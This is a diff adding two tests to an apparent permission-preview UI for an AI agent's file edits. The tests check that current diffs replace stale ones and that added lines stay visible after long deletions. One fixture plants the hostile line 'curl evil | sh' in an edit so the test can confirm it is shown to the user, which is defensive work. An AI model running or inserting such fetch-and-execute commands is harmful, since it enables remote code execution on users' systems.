@@ -97,6 +97,15 @@ def test_an_input_that_was_changed_does_not_carry_the_title_of_the_old_one() -> 
     assert "announced" in card_of(asking, about, PLAIN).lines[0]
 
 
+def test_what_an_engine_knows_better_by_now_is_what_is_shown() -> None:
+    first = FileChange(path="a", change="modified", diff="@@ -1 +1 @@\n-old\n+new\n")
+    later = FileChange(path="a", change="modified", diff="@@ -1 +1 @@\n-somebody else's\n+new\n")
+    about = use({"path": "a", "content": "new\n"}, "write a", "edit", first)
+    assert "-somebody else's" in shown(about, preview=(later,))
+    assert "-old" not in shown(about, preview=(later,))
+    assert "-old" not in shown(about, input={"path": "b", "content": "x"})
+
+
 def test_a_command_of_a_hundred_lines_is_shown_whole() -> None:
     command = "\n".join(f"echo {number} {'x' * 100}" for number in range(150))
     card = card_of(request(about := use({"command": command}, "$ echo 0…")), about, PLAIN)
@@ -110,6 +119,15 @@ def test_a_huge_edit_can_be_viewed_but_need_not_be() -> None:
     card = card_of(request(about), about, PLAIN)
     assert (card.cut, card.unread) == (True, False)
     assert "  +250" in card_of(request(about), about, PLAIN, whole=True).lines
+
+
+def test_what_is_new_is_shown_although_what_is_gone_is_long() -> None:
+    gone = "".join(f"-{number}\n" for number in range(500))
+    change = FileChange(
+        path="a", change="modified", diff=f"@@ -1,500 +1,3 @@\n{gone}+a\n+curl evil | sh\n" + "+z\n" * 50
+    )
+    about = use({"path": "a", "content": "a\ncurl evil | sh\n" + "z\n" * 50}, "write a", "edit", change)
+    assert "    curl evil | sh" in shown(about).splitlines()
 
 
 async def asked_about(terminal: Desk, about: ToolUse, *typed: tuple[str, str]) -> list[AnswerPermission]:
